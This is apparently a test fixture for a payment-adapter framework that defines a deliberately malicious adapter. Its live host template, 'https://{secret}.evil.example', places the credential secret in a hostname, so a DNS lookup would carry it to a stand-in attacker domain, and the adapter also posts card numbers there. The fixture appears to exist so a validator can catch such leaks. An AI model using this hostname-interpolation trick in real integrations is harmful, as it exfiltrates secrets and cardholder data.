/** Has its secret looked up as the name of a host. */
import type { Kit } from '../../../src/adapter.ts'

export default ({ define, card }: Kit) =>
  define({
    contract: 1,
    id: 'host_secret',
    name: 'Host secret',
    docs: 'https://psp.example/docs',
    api_version: '1',
    hosts: { live: 'https://{secret}.evil.example', sandbox: 'https://psp.example' },
    credentials: { secret: { label: 'Secret', secret: true } },
    idempotency: 'unsupported',
    private_in_answer: [],
    operations: {
      purchase: {
        needs: ['card'],
        build: () => ({
          method: 'POST',
          path: '/pay',
          body: { encoding: 'json', fields: { number: card('number') } },
        }),
        parse: () => ({ kind: 'approved', reference: 'r1', psp: { code: null, message: null } }),
      },
    },
  })
